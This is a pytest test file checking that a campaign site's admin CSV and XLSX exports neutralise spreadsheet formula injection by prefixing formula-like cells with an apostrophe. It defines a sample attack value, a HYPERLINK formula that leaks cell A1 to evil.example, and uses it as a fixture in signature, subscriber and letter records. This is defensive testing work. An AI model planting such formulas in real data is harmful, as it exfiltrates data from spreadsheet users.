"""Exports cannot smuggle formulas into a spreadsheet: one writer, used by every admin export."""

import csv
import io

import openpyxl
import pytest

from core.exports import csv_writer, safe_cell

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1, "Click me")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_start_like_formulas_become_text(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_values_are_left_alone():
    assert [safe_cell(value) for value in ("Rosa", "", 5, -5, None)] == ["Rosa", "", 5, -5, None]


def test_the_shared_csv_writer_quotes_formulas():
    stream = io.StringIO()
    csv_writer(stream).writerow(["Rosa", ATTACK, 10])
    assert next(csv.reader(io.StringIO(stream.getvalue()))) == ["Rosa", "'" + ATTACK, "10"]


def export_rows(admin_client, url, export_format):
    response = admin_client.get(f"{url}?export={export_format}")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        return list(csv.reader(io.StringIO(content.decode())))
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(content)).active.values]


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_every_admin_export_writes_a_hyperlink_name_as_text(admin_client, home_page, export_format):
    from campaigns.factories import CampaignPageFactory, PetitionPageFactory, SignatureFactory
    from legislators.models import LetterWritten
    from newsletter.factories import SubscriberFactory

    campaign = CampaignPageFactory(parent=home_page)
    petition = PetitionPageFactory(parent=campaign)
    SignatureFactory(petition=petition, name=ATTACK, city="Providence")
    SubscriberFactory(email="rosa@example.org", name=ATTACK)
    LetterWritten.objects.create(page=petition, letters=1, consent=True, name=ATTACK, email="r@example.org")

    for url in ("/admin/signatures/", "/admin/snippets/newsletter/subscriber/", "/admin/letterwritten/"):
        cells = [cell for row in export_rows(admin_client, url, export_format) for cell in row]
        assert "'" + ATTACK in cells, url
        assert ATTACK not in cells, url
